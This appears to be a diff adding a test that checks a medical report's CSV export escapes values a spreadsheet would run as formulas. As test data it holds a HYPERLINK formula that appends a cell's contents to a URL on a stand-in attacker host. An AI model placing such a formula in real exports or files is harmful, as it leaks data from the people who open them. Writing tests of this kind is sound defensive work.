@@ -109,6 +109,27 @@ describe('Download Excel', () => {
     );
   });
 
+  it('keeps a value that a spreadsheet would run as a formula as text in the CSV', async () => {
+    // A patient name comes from the uploaded file: whoever sends the study chooses it.
+    const home = await createTestWorld(t.db);
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
+    await createTestStudy(t.db, {
+      groupId: home.group.id,
+      centerId: home.center.id,
+      patientName: formula,
+      row: { createdAt: new Date('2026-01-06T04:00:00Z'), history: '+1 call -2 @home' },
+    });
+    const admin = await signedInAt(t, home, ['ROLE_ADMIN']);
+    const csv = await admin.browser.post('/api/report-summary/csv', RANGE);
+    expect(csv.statusCode, csv.body).toBe(200);
+    const body = csv.body.replace(/^\uFEFF/, '');
+    // No field of a line starts with =, +, - or @ (RFC 4180 fields, quoted or not).
+    const fields = body.split('\r\n').flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []);
+    for (const field of fields) expect(field.replace(/^"/, ''), field).not.toMatch(/^[=+\-@]/);
+    // The history is text the sender typed; the name's '=' is a DICOM group separator (core PN rule).
+    expect(body).toContain(",'+1 call -2 @home,");
+  });
+
   it("follows the caller's saved summary columns", async () => {
     const home = await createTestWorld(t.db);
     await createTestStudy(t.db, {
